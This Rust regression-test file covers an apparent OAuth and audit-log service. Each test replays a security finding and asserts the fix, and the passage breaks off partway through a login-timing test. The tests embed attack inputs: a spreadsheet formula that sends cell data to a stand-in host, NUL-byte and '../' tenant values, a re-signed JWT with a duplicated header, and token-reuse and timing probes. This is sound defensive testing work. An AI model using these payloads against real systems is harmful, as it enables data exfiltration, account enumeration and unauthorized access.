//! Regression tests for the findings of an attack on the running service: each test
//! performs the attack through HTTP or the command line, on both backends, and asserts
//! what comes back, body included.

use actix_web::http::Method;
use actix_web::test::init_service;
use serde_json::{json, Value};

use crate::browser::{authorize_path, field, location_param, Browser, REDIRECT, VERIFIER};
use crate::support::{
    basic, bearer, both_backends_async, call, client_token, form_post, user_token, Reply, TestDb,
};

const PASSWORD: &str = "correct horse battery";
const INVALID_GRANT: &str = "the grant is invalid, expired or revoked";

struct World {
    acme: String,
    globex: String,
    alice: String,
    acme_svc: String,
    platform_svc: String,
}

fn world(db: &TestDb) -> World {
    let acme = db.tenant("acme").id;
    let globex = db.tenant("globex").id;
    for (email, tenant, roles) in [
        ("alice@example.com", "acme", &["member"][..]),
        ("alice@example.com", "globex", &["member"][..]),
        ("admin@acme.test", "acme", &["admin"][..]),
        ("auditor@acme.test", "acme", &["auditor"][..]),
        ("admin@globex.test", "globex", &["admin"][..]),
        ("root@platform.test", "system", &["admin"][..]),
        ("plain@platform.test", "system", &["member"][..]),
    ] {
        if tenant == "acme" || email != "alice@example.com" {
            db.user(email, PASSWORD);
        }
        db.member(tenant, email, roles);
    }
    let alice = db.conn_user_id("alice@example.com");
    let grants = ["authorization_code", "refresh_token"];
    db.client(
        "web",
        None,
        false,
        &grants,
        &["openid", "offline_access"],
        &[REDIRECT],
    );
    db.client(
        "web2",
        None,
        false,
        &grants,
        &["openid", "offline_access"],
        &[REDIRECT],
    );
    db.client(
        "admin-app",
        None,
        false,
        &["authorization_code"],
        &["openid", "tessera:api"],
        &[REDIRECT],
    );
    World {
        acme,
        globex,
        alice,
        acme_svc: db.service_client("acme-svc", Some("acme"), &["audit:write"]),
        platform_svc: db.service_client("platform-svc", None, &["audit:write"]),
    }
}

impl TestDb {
    fn conn_user_id(&self, email: &str) -> String {
        let mut conn = self.conn();
        tessera::users::find_by_email(&mut conn, &tessera::users::Email::parse(email).unwrap())
            .unwrap()
            .unwrap()
            .id
    }

    /// The `jti` of the user's newest ledger entry of `token_type` that is not revoked.
    fn live_jti(&self, subject: &str, token_type: &str) -> String {
        use diesel::prelude::*;
        use tessera::db::schema::issued_tokens as t;
        t::table
            .filter(t::subject.eq(subject))
            .filter(t::token_type.eq(token_type))
            .filter(t::revoked_at.is_null())
            .order(t::issued_at.desc())
            .select(t::jti)
            .first(&mut self.conn())
            .unwrap()
    }

    /// Rows of a tenant's chain: (action, source, details), in order.
    fn chain(&self, tenant_id: &str) -> Vec<(String, String, Value)> {
        use diesel::prelude::*;
        use tessera::db::schema::audit_events as a;
        let rows: Vec<(String, String, String)> = a::table
            .filter(a::tenant_id.eq(tenant_id))
            .order(a::seq.asc())
            .select((a::action, a::source, a::details))
            .load(&mut self.conn())
            .unwrap();
        rows.into_iter()
            .map(|(action, source, details)| {
                (action, source, serde_json::from_str(&details).unwrap())
            })
            .collect()
    }

    fn actions(&self, tenant_id: &str) -> Vec<String> {
        self.chain(tenant_id)
            .into_iter()
            .map(|(a, _, _)| a)
            .collect()
    }
}

fn sql_time(at: chrono::NaiveDateTime) -> String {
    at.format("%Y-%m-%d %H:%M:%S%.6f").to_string()
}

fn claims(token: &str) -> Value {
    use base64::Engine;
    let part = token.split('.').nth(1).unwrap();
    serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(part)
            .unwrap(),
    )
    .unwrap()
}

fn api_get(path: &str, token: &str) -> actix_http::Request {
    bearer(Method::GET, path, token).to_request()
}

fn api_post(path: &str, token: &str, body: &Value) -> actix_http::Request {
    bearer(Method::POST, path, token)
        .set_json(body)
        .to_request()
}

macro_rules! service_bounds {
    ($($item:item)*) => {
        $(
            #[allow(dead_code)]
            $item
        )*
    };
}

service_bounds! {
    /// Signs in through `client` (the login form), returning the login POST's answer.
    async fn sign_in<S, B>(app: &S, browser: &mut Browser, client: &str, extra: &[(&str, &str)], email: &str, password: &str) -> Reply
    where
        S: actix_web::dev::Service<actix_http::Request, Response = actix_web::dev::ServiceResponse<B>, Error = actix_web::Error>,
        B: actix_web::body::MessageBody,
    {
        let page = browser.get(app, &authorize_path(client, extra)).await;
        assert_eq!(page.status, 200, "{}", page.body);
        let request = field(&page.body, "request").unwrap();
        let csrf = field(&page.body, "csrf").unwrap();
        browser.post(app, "/login", &[("request", &request), ("csrf", &csrf), ("email", email), ("password", password)]).await
    }

    /// Signs in and exchanges the code: the token response.
    async fn tokens_for<S, B>(app: &S, browser: &mut Browser, client: &str, extra: &[(&str, &str)], email: &str) -> Value
    where
        S: actix_web::dev::Service<actix_http::Request, Response = actix_web::dev::ServiceResponse<B>, Error = actix_web::Error>,
        B: actix_web::body::MessageBody,
    {
        let done = sign_in(app, browser, client, extra, email, PASSWORD).await;
        assert_eq!(done.status, 303, "{}", done.body);
        let code = location_param(&done, "code").expect("a code");
        let reply = call(app, form_post("/token", None, &[("grant_type", "authorization_code"), ("client_id", client), ("code", &code), ("redirect_uri", REDIRECT), ("code_verifier", VERIFIER)])).await;
        assert_eq!(reply.status, 200, "{}", reply.body);
        reply.json()
    }

    async fn refresh<S, B>(app: &S, client: &str, token: &str, extra: &[(&str, &str)]) -> Reply
    where
        S: actix_web::dev::Service<actix_http::Request, Response = actix_web::dev::ServiceResponse<B>, Error = actix_web::Error>,
        B: actix_web::body::MessageBody,
    {
        let mut fields = vec![("grant_type", "refresh_token"), ("client_id", client), ("refresh_token", token)];
        fields.extend_from_slice(extra);
        call(app, form_post("/token", None, &fields)).await
    }
}

fn assert_invalid_grant(reply: &Reply) {
    assert_eq!(reply.status, 400, "{}", reply.body);
    assert_eq!(
        reply.json_without_request_id(),
        json!({ "error": "invalid_grant", "error_description": INVALID_GRANT })
    );
}

// Finding 1: revoking a refresh token by its jti (API or CLI) ends it.
both_backends_async! {
    async fn a_refresh_token_revoked_by_its_jti_is_refused(db) {
        let w = world(&db);
        let state = db.state();
        let admin = user_token(&state, "admin@acme.test", "acme");
        let app = init_service(tessera::http::app(state)).await;

        let first = tokens_for(&app, &mut Browser::default(), "web", &[("tenant", "acme")], "alice@example.com").await;
        let jti = db.live_jti(&w.alice, "refresh_token");
        let revoked = call(&app, api_post(&format!("/api/v1/tokens/{jti}/revoke"), &admin, &json!({}))).await;
        assert_eq!((revoked.status, revoked.json()["revoked"].clone()), (200, json!(1)), "{}", revoked.body);
        assert_invalid_grant(&refresh(&app, "web", first["refresh_token"].as_str().unwrap(), &[]).await);

        let second = tokens_for(&app, &mut Browser::default(), "web", &[("tenant", "acme")], "alice@example.com").await;
        let jti = db.live_jti(&w.alice, "refresh_token");
        assert!(db.cli(&["tokens", "revoke", &jti]).ok().contains("revoked"));
        assert_invalid_grant(&refresh(&app, "web", second["refresh_token"].as_str().unwrap(), &[]).await);
        // A live one still rotates: the refusals above are the revocations, nothing else.
        let third = tokens_for(&app, &mut Browser::default(), "web", &[("tenant", "acme")], "alice@example.com").await;
        assert_eq!(refresh(&app, "web", third["refresh_token"].as_str().unwrap(), &[]).await.status, 200);
        let _ = w.globex;
    }
}

// Finding 2: an application's token is not an API credential.
both_backends_async! {
    async fn application_tokens_are_not_api_credentials(db) {
        let w = world(&db);
        let state = db.state();
        let app = init_service(tessera::http::app(state)).await;
        let insufficient = json!({ "error": "insufficient_scope", "error_description": "the access token does not carry the scope this API requires" });

        let root = tokens_for(&app, &mut Browser::default(), "web", &[("scope", "openid")], "root@platform.test").await;
        let root = root["access_token"].as_str().unwrap();
        let reply = call(&app, api_post("/api/v1/tenants", root, &json!({ "slug": "evil" }))).await;
        assert_eq!((reply.status, reply.json_without_request_id()), (403, insufficient.clone()));
        let challenge = reply.header("www-authenticate").unwrap();
        assert!(challenge.contains("error=\"insufficient_scope\"") && challenge.contains("scope=\"tessera:api\""), "{challenge}");
        assert!(db.cli(&["tenant", "list", "--json"]).json().as_array().unwrap().iter().all(|t| t["slug"] != "evil"));

        let admin = tokens_for(&app, &mut Browser::default(), "web", &[("scope", "openid")], "admin@acme.test").await;
        let admin = admin["access_token"].as_str().unwrap();
        for req in [
            api_post("/api/v1/clients", admin, &json!({ "client_id": "acme.x", "confidential": true, "grant_types": ["client_credentials"] })),
            api_get("/api/v1/audit/events", admin),
            api_get("/api/v1/tokens", admin),
            api_get(&format!("/api/v1/tenants/{}/members", w.acme), admin),
        ] {
            let reply = call(&app, req).await;
            assert_eq!((reply.status, reply.json_without_request_id()), (403, insufficient.clone()));
        }
        // Ingestion takes a user's token of any scope.
        let ingest = call(&app, api_post("/api/v1/audit/events", admin, &json!({ "action": "app.used", "outcome": "success" }))).await;
        assert_eq!(ingest.status, 202, "{}", ingest.body);

        // Only a client registered for the scope obtains it.
        let mut browser = Browser::default();
        let asked = browser.get(&app, &authorize_path("web", &[("scope", "openid tessera:api")])).await;
        assert_eq!(location_param(&asked, "error").as_deref(), Some("invalid_scope"));
        let api = tokens_for(&app, &mut Browser::default(), "admin-app", &[("scope", "openid tessera:api")], "root@platform.test").await;
        let reply = call(&app, api_post("/api/v1/tenants", api["access_token"].as_str().unwrap(), &json!({ "slug": "newco" }))).await;
        assert_eq!(reply.status, 201, "{}", reply.body);
    }
}

// Finding 3: a full hashing pool neither leaks reserved attempts nor resets the count.
both_backends_async! {
    async fn lockout_holds_when_the_hashing_pool_is_full(db) {
        let _ = world(&db);
        let victim = db.conn_user_id("alice@example.com");
        let state = db.state_with(|c| {
            c.bcrypt_workers = 1;
            c.bcrypt_queue = 0;
            c.login_max_failures = 3;
        });
        let app = init_service(tessera::http::app(state)).await;
        let mut forms = Vec::new();
        for i in 0..24 {
            let mut browser = Browser::default();
            let page = browser.get(&app, &authorize_path("web", &[])).await;
            let email = if i % 2 == 0 { "alice@example.com".to_owned() } else { format!("nobody{i}@example.com") };
            forms.push((browser, field(&page.body, "request").unwrap(), field(&page.body, "csrf").unwrap(), email));
        }
        let replies = futures_util::future::join_all(forms.iter().map(|(browser, request, csrf, email)| {
            call(&app, browser.post_request("/login", &[("request", request), ("csrf", csrf), ("email", email), ("password", "wrong password 1")]))
        }))
        .await;
        let busy = replies.iter().filter(|r| r.status == 503).count();
        assert!(busy > 0, "the flood fills the hashing pool");
        for reply in &replies {
            assert!(reply.status == 503 || (reply.status == 200 && reply.body.contains("Invalid email or password.")), "{} {}", reply.status, reply.body);
        }
        let evaluated = db.chain(tessera::tenants::SYSTEM_TENANT_ID).iter().filter(|(a, _, d)| a == "login.failure" && d.get("reason").is_none()).count();
        let user = {
            let mut conn = db.conn();
            tessera::users::find(&mut conn, &victim).unwrap().unwrap()
        };
        assert!(evaluated <= 3, "{evaluated} passwords evaluated");
        assert_eq!(user.failed_logins as usize, evaluated, "no attempt is left reserved by a refused login");

        // Attempts that were never settled (the process died) keep counting for a whole
        // lockout period: even the right password is not evaluated before then.
        let now = tessera::db::now();
        db.exec(&format!("UPDATE users SET failed_logins = 3, locked_until = NULL, updated_at = '{}' WHERE id = '{victim}'", sql_time(now - chrono::Duration::seconds(120))));
        let mut browser = Browser::default();
        let reply = sign_in(&app, &mut browser, "web", &[], "alice@example.com", PASSWORD).await;
        assert_eq!(reply.status, 200, "refused: {}", reply.body);
        assert!(reply.body.contains("Invalid email or password."));
        assert!(db.actions(tessera::tenants::SYSTEM_TENANT_ID).iter().all(|a| a != "login.success"));
        // (The refused attempt found the limit reached and locked the account.)
        db.exec(&format!("UPDATE users SET locked_until = NULL, updated_at = '{}' WHERE id = '{victim}'", sql_time(now - chrono::Duration::seconds(901))));
        let reply = sign_in(&app, &mut Browser::default(), "web", &[("tenant", "acme")], "alice@example.com", PASSWORD).await;
        assert_eq!(reply.status, 303, "{}", reply.body);
    }
}

// Finding 4: a client's subject never names a user, and /userinfo describes users only.
both_backends_async! {
    async fn client_subjects_never_collide_with_users(db) {
        let w = world(&db);
        let state = db.state();
        let root = user_token(&state, "root@platform.test", "system");
        let app = init_service(tessera::http::app(state)).await;
        let reply = call(&app, api_post("/api/v1/clients", &root, &json!({ "client_id": w.alice, "confidential": true, "grant_types": ["client_credentials"], "tenant_id": w.globex }))).await;
        assert_eq!(reply.status, 400, "{}", reply.body);
        assert!(reply.json()["error_description"].as_str().unwrap().contains("reserved"));
        let bob = uuid::Uuid::new_v4().to_string();
        assert!(db.cli(&["client", "create", &bob, "--confidential", "--grant", "client_credentials"]).fails(1).contains("reserved"));

        // A colliding client written before the rule (straight into the database): its
        // token gets nothing from /userinfo.
        let secret = "s3cret-s3cret-s3cret-s3cret-s3cret-s3cret-s3c";
        db.exec(&format!(
            "INSERT INTO clients (id, tenant_id, name, kind, secret_hash, redirect_uris, grant_types, scopes, created_at) \
             VALUES ('{}', '{}', 'legacy', 'confidential', '{}', '', 'client_credentials', 'openid', '2026-01-01 00:00:00')",
            w.alice, w.globex, tessera::clients::hash_secret(secret)
        ));
        let token = call(&app, form_post("/token", Some(&basic(&w.alice, secret)), &[("grant_type", "client_credentials")])).await;
        assert_eq!(token.status, 200, "{}", token.body);
        let token = token.json()["access_token"].as_str().unwrap().to_owned();
        assert_eq!(claims(&token)["sub"], json!(w.alice));
        let info = call(&app, bearer(Method::GET, "/userinfo", &token).to_request()).await;
        assert_eq!(info.status, 401, "{}", info.body);
        assert!(!info.body.contains("alice@example.com"));
        assert!(info.header("www-authenticate").unwrap().contains("invalid_token"));
    }
}

// Finding 5: a tenant admin's family revocation stays in its tenant; automatic ones
// are recorded in every tenant they reach.
both_backends_async! {
    async fn family_revocations_respect_tenants(db) {
        let w = world(&db);
        let state = db.state();
        let acme_admin = user_token(&state, "admin@acme.test", "acme");
        let app = init_service(tessera::http::app(state)).await;

        let first = tokens_for(&app, &mut Browser::default(), "web", &[("tenant", "acme")], "alice@example.com").await;
        let r1 = first["refresh_token"].as_str().unwrap().to_owned();
        let switched = refresh(&app, "web", &r1, &[("tenant", "globex")]).await;
        assert_eq!(switched.status, 200, "{}", switched.body);
        let r2 = switched.json()["refresh_token"].as_str().unwrap().to_owned();
        let globex_before = db.actions(&w.globex);

        let jti = claims(first["access_token"].as_str().unwrap())["jti"].as_str().unwrap().to_owned();
        let reply = call(&app, api_post(&format!("/api/v1/tokens/{jti}/revoke?family=true"), &acme_admin, &json!({}))).await;
        assert_eq!(reply.status, 200, "{}", reply.body);
        assert!(db.actions(&w.acme).contains(&"token.revoked".to_owned()));
        assert_eq!(db.actions(&w.globex), globex_before, "globex's chain is untouched");
        let rotated = refresh(&app, "web", &r2, &[]).await;
        assert_eq!(rotated.status, 200, "the user's globex grant is globex's business: {}", rotated.body);
        let r3 = rotated.json()["refresh_token"].as_str().unwrap().to_owned();

        // Reusing the first token is an attack: the whole family goes, and both chains say so.
        assert_invalid_grant(&refresh(&app, "web", &r1, &[]).await);
        assert_invalid_grant(&refresh(&app, "web", &r3, &[]).await);
        for tenant in [&w.acme, &w.globex] {
            let reuse: Vec<Value> = db.chain(tenant).into_iter().filter(|(a, _, _)| a == "token.refresh_reuse").map(|(_, _, d)| d).collect();
            assert_eq!(reuse.len(), 1, "{tenant}: {:?}", db.actions(tenant));
        }
        let globex_reuse = db.chain(&w.globex).into_iter().find(|(a, _, _)| a == "token.refresh_reuse").unwrap().2;
        assert!(globex_reuse["tokens_revoked"].as_u64().unwrap() >= 1, "{globex_reuse}");
    }
}

// Finding 6: CSV exports do not carry spreadsheet formulas.
both_backends_async! {
    async fn csv_exports_neutralize_formulas(db) {
        let w = world(&db);
        let state = db.state();
        let member = user_token(&state, "alice@example.com", "acme");
        let auditor = user_token(&state, "auditor@acme.test", "acme");
        let app = init_service(tessera::http::app(state)).await;
        let payload = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
        let event = json!({ "action": "invoice.read", "outcome": "success", "request_id": "+1+1", "resource": { "type": "@SUM(A1)", "id": payload }, "details": { "note": "-2" } });
        assert_eq!(call(&app, api_post("/api/v1/audit/events", &member, &event)).await.status, 202);

        let csv = call(&app, api_get("/api/v1/audit/export?format=csv", &auditor)).await;
        assert_eq!(csv.status, 200);
        let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
        let mut found = false;
        for record in reader.records() {
            let record = record.unwrap();
            for value in record.iter() {
                assert!(!value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{value}");
            }
            if record.iter().any(|v| v == format!("'{payload}")) {
                found = true;
                assert!(record.iter().any(|v| v == "'+1+1") && record.iter().any(|v| v == "'@SUM(A1)"));
            }
        }
        assert!(found, "{}", csv.body);
        // NDJSON keeps every field exactly as hashed.
        let ndjson = call(&app, api_get("/api/v1/audit/export?format=ndjson", &auditor)).await;
        let item: Value = ndjson.body.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).find(|i| i["action"] == "invoice.read").unwrap();
        assert_eq!((item["resource"]["id"].as_str(), item["request_id"].as_str()), (Some(payload), Some("+1+1")));
        assert!(db.cli(&["audit", "export", "--tenant", "acme", "--format", "csv"]).ok().contains(&format!("'{}", "=HYPERLINK")));
        let _ = w.acme;
    }
}

// Finding 7: no client writes as the service, for another tenant's users, or into
// the system chain.
both_backends_async! {
    async fn audit_provenance_cannot_be_spoofed(db) {
        let w = world(&db);
        for id in ["tessera", "Tessera-console", "cli", "system"] {
            assert!(db.cli(&["client", "create", id, "--confidential", "--grant", "client_credentials"]).fails(1).contains("reserved"), "{id}");
        }
        let state = db.state();
        let acme_svc = client_token(&state, "acme-svc", &w.acme_svc);
        let platform_svc = client_token(&state, "platform-svc", &w.platform_svc);
        let root = user_token(&state, "root@platform.test", "system");
        let globex_admin = db.conn_user_id("admin@globex.test");
        let app = init_service(tessera::http::app(state)).await;
        let reply = call(&app, api_post("/api/v1/clients", &root, &json!({ "client_id": "tessera", "confidential": true, "grant_types": ["client_credentials"] }))).await;
        assert_eq!(reply.status, 400, "{}", reply.body);

        let as_user = |id: &str| json!({ "action": "doc.read", "outcome": "success", "actor": { "type": "user", "id": id } });
        let reply = call(&app, api_post("/api/v1/audit/events", &acme_svc, &as_user(&globex_admin))).await;
        assert_eq!((reply.status, reply.json_without_request_id()), (403, json!({ "error": "forbidden", "error_description": "forbidden" })));
        assert_eq!(db.actions(&w.acme).last().map(String::as_str), Some("audit.ingest_denied"));
        assert_eq!(call(&app, api_post("/api/v1/audit/events", &acme_svc, &as_user(&w.alice))).await.status, 202);

        let system = tessera::tenants::SYSTEM_TENANT_ID;
        let mut into_system = as_user(&w.alice);
        into_system["tenant_id"] = json!(system);
        let reply = call(&app, api_post("/api/v1/audit/events", &platform_svc, &into_system)).await;
        assert_eq!(reply.status, 403);
        let chain = db.chain(system);
        assert!(chain.iter().all(|(_, source, _)| source != "platform-svc"), "nothing written as the client");
        assert_eq!(chain.last().unwrap().0, "tenant.cross_access_denied");
    }
}

// Finding 8: NUL characters are refused at the edge, never a 500.
both_backends_async! {
    async fn nul_characters_are_a_clear_4xx(db) {
        let w = world(&db);
        let state = db.state();
        let auditor = user_token(&state, "auditor@acme.test", "acme");
        let app = init_service(tessera::http::app(state)).await;
        let mut browser = Browser::default();
        for name in ["state", "nonce", "tenant"] {
            let reply = browser.get(&app, &authorize_path("web", &[(name, "a\u{0}b")])).await;
            assert_eq!(reply.status, 302, "{name}: {}", reply.body);
            assert_eq!(location_param(&reply, "error").as_deref(), Some("invalid_request"), "{name}");
            assert_eq!(location_param(&reply, "error_description").as_deref(), Some("a parameter contains a NUL character"));
        }
        let nul = json!({ "error": "invalid_request", "error_description": "a parameter contains a NUL character" });
        for path in ["/api/v1/audit/events?action=a%00b", "/api/v1/audit/events?actor=%00", "/api/v1/tokens?subject=%00", "/api/v1/tokens?client=x%00", "/userinfo?x=%00", "/logout?state=%00"] {
            let reply = call(&app, api_get(path, &auditor)).await;
            assert_eq!((reply.status, reply.json_without_request_id()), (400, nul.clone()), "{path}");
        }
        let reply = call(&app, form_post("/token", None, &[("grant_type", "authorization_code"), ("client_id", "web"), ("code", "a\u{0}b")])).await;
        assert_eq!((reply.status, reply.json()["error"].clone()), (400, json!("invalid_request")));
        // A cursor is opaque, but what it decodes to is checked too.
        use base64::Engine;
        let cursor = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json!({ "i": "2026-01-01T00:00:00", "t": w.acme, "j": "a\u{0}b" }).to_string());
        let reply = call(&app, api_get(&format!("/api/v1/tokens?cursor={cursor}"), &auditor)).await;
        assert_eq!(reply.status, 400, "{}", reply.body);
    }
}

// Finding 10: no answer depends on another tenant's data.
both_backends_async! {
    async fn answers_do_not_depend_on_other_tenants(db) {
        let w = world(&db);
        let state = db.state();
        let acme_admin = user_token(&state, "admin@acme.test", "acme");
        let globex_admin = user_token(&state, "admin@globex.test", "globex");
        let plain = user_token(&state, "plain@platform.test", "system");
        let root = user_token(&state, "root@platform.test", "system");
        let app = init_service(tessera::http::app(state)).await;
        let client = |id: &str| json!({ "client_id": id, "redirect_uris": ["https://app.example.com/cb"] });

        assert_eq!(call(&app, api_post("/api/v1/clients", &globex_admin, &client("globex.web"))).await.status, 201);
        assert_eq!(call(&app, api_post("/api/v1/clients", &root, &client("shared"))).await.status, 201);
        let taken = call(&app, api_post("/api/v1/clients", &acme_admin, &client("globex.web"))).await;
        let platform_taken = call(&app, api_post("/api/v1/clients", &acme_admin, &client("shared"))).await;
        let free = call(&app, api_post("/api/v1/clients", &acme_admin, &client("nobody-has-this"))).await;
        assert_eq!(taken.status, 400, "{}", taken.body);
        assert_eq!(taken.json_without_request_id(), free.json_without_request_id());
        assert_eq!(platform_taken.json_without_request_id(), free.json_without_request_id());
        assert_eq!(call(&app, api_post("/api/v1/clients", &acme_admin, &client("acme.web"))).await.status, 201);
        assert_eq!(call(&app, api_post("/api/v1/clients", &acme_admin, &client("acme.web"))).await.status, 409, "its own namespace");

        // A system member without a role: the same 403 for an existing and a missing tenant.
        let missing = uuid::Uuid::new_v4().to_string();
        for path in ["/api/v1/audit/events?tenant={}", "/api/v1/tokens?tenant={}", "/api/v1/audit/verify?tenant={}", "/api/v1/clients?tenant={}", "/api/v1/tenants/{}/members"] {
            let existing = call(&app, api_get(&path.replace("{}", &w.acme), &plain)).await;
            let absent = call(&app, api_get(&path.replace("{}", &missing), &plain)).await;
            assert_eq!(existing.status, 403, "{path}");
            assert_eq!((absent.status, absent.json_without_request_id()), (existing.status, existing.json_without_request_id()), "{path}");
        }
        let _ = w.globex;
    }
}

// Finding 11: signing out ends the session's refresh tokens; a GET without a hint asks
// first; public clients revoke their own refresh tokens.
both_backends_async! {
    async fn sign_out_and_public_revocation_end_grants(db) {
        let _ = world(&db);
        let state = db.state();
        let app = init_service(tessera::http::app(state)).await;
        let mut browser = Browser::default();
        let issued = tokens_for(&app, &mut browser, "web", &[("tenant", "acme")], "alice@example.com").await;
        let hint = issued["id_token"].as_str().unwrap();
        let out = browser.get(&app, &format!("/logout?id_token_hint={hint}&post_logout_redirect_uri={}", url::form_urlencoded::byte_serialize(REDIRECT.as_bytes()).collect::<String>())).await;
        assert_eq!((out.status, out.header("location")), (302, Some(REDIRECT)));
        assert_invalid_grant(&refresh(&app, "web", issued["refresh_token"].as_str().unwrap(), &[]).await);

        // A cross-site link to /logout (no hint) signs nobody out by itself.
        let mut browser = Browser::default();
        let issued = tokens_for(&app, &mut browser, "web", &[("tenant", "acme")], "alice@example.com").await;
        let ask = browser.get(&app, "/logout").await;
        assert_eq!(ask.status, 200);
        assert!(ask.body.contains("action=\"/logout\""), "{}", ask.body);
        let forged = browser.post(&app, "/logout", &[("csrf", "forged")]).await;
        assert_eq!(forged.status, 403);
        let still = browser.get(&app, &authorize_path("web", &[("tenant", "acme"), ("prompt", "none")])).await;
        assert!(location_param(&still, "code").is_some(), "still signed in: {:?}", still.header("location"));
        assert_eq!(refresh(&app, "web", issued["refresh_token"].as_str().unwrap(), &[]).await.status, 200);
        let confirmed = browser.post(&app, "/logout", &[("csrf", &field(&ask.body, "csrf").unwrap())]).await;
        assert_eq!(confirmed.status, 200, "{}", confirmed.body);
        assert!(confirmed.body.contains("You have been signed out."));
        let after = browser.get(&app, &authorize_path("web", &[("tenant", "acme"), ("prompt", "none")])).await;
        assert_eq!(location_param(&after, "error").as_deref(), Some("login_required"));

        // RFC 7009: a public client revokes its own refresh token by its id, not another's.
        let mine = tokens_for(&app, &mut Browser::default(), "web", &[("tenant", "acme")], "alice@example.com").await;
        let token = mine["refresh_token"].as_str().unwrap();
        let other = call(&app, form_post("/revoke", None, &[("client_id", "web2"), ("token", token)])).await;
        assert_eq!((other.status, other.json()["error"].clone()), (400, json!("unauthorized_client")));
        let rotated = refresh(&app, "web", token, &[]).await;
        assert_eq!(rotated.status, 200, "{}", rotated.body);
        let token = rotated.json()["refresh_token"].as_str().unwrap().to_owned();
        assert_eq!(call(&app, form_post("/revoke", None, &[("client_id", "web"), ("token", &token)])).await.status, 200);
        assert_invalid_grant(&refresh(&app, "web", &token, &[]).await);
    }
}

// Finding 12: hygiene.
both_backends_async! {
    async fn hygiene(db) {
        let w = world(&db);
        if !db.is_postgres() {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(db.dir.path().join("tessera.db")).unwrap().permissions().mode();
            assert_eq!(mode & 0o077, 0, "the SQLite file is its owner's only: {mode:o}");
        }
        let other = db.state_with(|c| c.audience = "https://elsewhere.example".into());
        let foreign_audience = user_token(&other, "alice@example.com", "acme");
        let state = db.state();
        let auditor = user_token(&state, "auditor@acme.test", "acme");
        let root = user_token(&state, "root@platform.test", "system");
        let keys_dir = state.config.keys_dir.clone();
        let app = init_service(tessera::http::app(state)).await;

        for path in ["/api/v1/audit/events", "/api/v1/tokens", "/api/v1/clients"] {
            let reply = call(&app, api_get(path, &auditor)).await;
            assert_eq!(reply.header("cache-control"), Some("no-store"), "{path}");
        }
        let reply = call(&app, bearer(Method::GET, "/userinfo", &foreign_audience).to_request()).await;
        assert_eq!(reply.status, 401, "another audience's token: {}", reply.body);

        // A header naming `typ` twice, properly signed with the active key.
        let real_header: Value = {
            use base64::Engine;
            serde_json::from_slice(&base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(auditor.split('.').next().unwrap()).unwrap()).unwrap()
        };
        let kid = real_header["kid"].as_str().unwrap();
        let duplicated = format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"JWT","typ":"at+jwt"}}"#);
        let forged = resign(&keys_dir, kid, &duplicated, auditor.split('.').nth(1).unwrap());
        let reply = call(&app, api_get("/api/v1/audit/events", &forged)).await;
        assert_eq!(reply.status, 401, "{}", reply.body);
        let control = resign(&keys_dir, kid, &format!(r#"{{"alg":"ES256","kid":"{kid}","typ":"at+jwt"}}"#), auditor.split('.').nth(1).unwrap());
        assert_eq!(call(&app, api_get("/api/v1/audit/events", &control)).await.status, 200, "the same token without the repetition");

        // Plain http redirect URIs only for loopback.
        for (uri, status) in [("http://app.example.com/cb", 400), ("http://127.0.0.1:8000/cb", 201), ("http://localhost/cb", 201)] {
            let id = format!("c{}", uri.len());
            let reply = call(&app, api_post("/api/v1/clients", &root, &json!({ "client_id": id, "redirect_uris": [uri] }))).await;
            assert_eq!(reply.status, status, "{uri}: {}", reply.body);
        }
        assert!(db.cli(&["client", "create", "plain", "--redirect-uri", "http://app.example.com/cb"]).fails(1).contains("loopback"));

        // max_age=0 always asks for the password.
        let mut browser = Browser::default();
        let done = sign_in(&app, &mut browser, "web", &[("tenant", "acme")], "alice@example.com", PASSWORD).await;
        assert_eq!(done.status, 303);
        let again = browser.get(&app, &authorize_path("web", &[("tenant", "acme"), ("max_age", "0")])).await;
        assert_eq!(again.status, 200, "the login page: {:?}", again.header("location"));
        assert!(again.body.contains("name=\"password\""));
        let _ = w.acme;
    }
}

/// Signs `header` and `payload_b64` with the key `kid` from the keys folder.
fn resign(keys_dir: &std::path::Path, kid: &str, header: &str, payload_b64: &str) -> String {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let jwk =
        josekit::jwk::Jwk::from_bytes(std::fs::read(keys_dir.join(format!("{kid}.jwk"))).unwrap())
            .unwrap();
    let signer = josekit::jws::ES256.signer_from_jwk(&jwk).unwrap();
    let input = format!("{}.{payload_b64}", b64.encode(header));
    let signature = josekit::jws::JwsSigner::sign(&signer, input.as_bytes()).unwrap();
    format!("{input}.{}", b64.encode(signature))
}

// Finding 13: a refused ingestion naming another tenant is a cross-tenant denial.
both_backends_async! {
    async fn ingestion_into_another_tenant_is_a_cross_tenant_denial(db) {
        let w = world(&db);
        let state = db.state();
        let acme_svc = client_token(&state, "acme-svc", &w.acme_svc);
        let member = user_token(&state, "alice@example.com", "acme");
        let app = init_service(tessera::http::app(state)).await;
        for (token, typed) in [(&acme_svc, w.globex.clone()), (&member, w.globex.clone()), (&acme_svc, "../globex".to_owned())] {
            let event = json!({ "action": "doc.read", "outcome": "success", "tenant_id": typed });
            let reply = call(&app, api_post("/api/v1/audit/events", token, &event)).await;
            assert_eq!(reply.status, 403);
            assert!(!reply.body.contains(&w.globex));
            let (action, _, details) = db.chain(&w.acme).pop().unwrap();
            assert_eq!(action, "tenant.cross_access_denied");
            assert_eq!(details["requested"], json!(typed));
        }
        assert!(db.actions(&w.globex).iter().all(|a| a != "doc.read"));
    }
}

// Finding 9: a wrong password for an existing account and any password for an unknown
// email take the same work, so timing does not tell them apart. An attacker's
// measurement: paired, alternating logins; the trimmed mean of the paired differences
// must not be significant (at cost 4, before the fix: z ≈ -8 over 600 pairs).
both_backends_async! {
    async fn unknown_accounts_and_wrong_passwords_take_the_same_time(db) {
        let _ = world(&db);
        let state = db.state_with(|c| c.login_max_failures = 1_000_000);
        let app = init_service(tessera::http::app(state)).await;
        // A real difference shows in every round; a burst of load from the tests running
        // beside this one rarely twice, the same way: the verdict needs two rounds that
        // agree (before the fix, every round had z > 20).
        let first = measure_login_timing(&app).await;
        if first.abs() < 4.0 {
            return;
        }
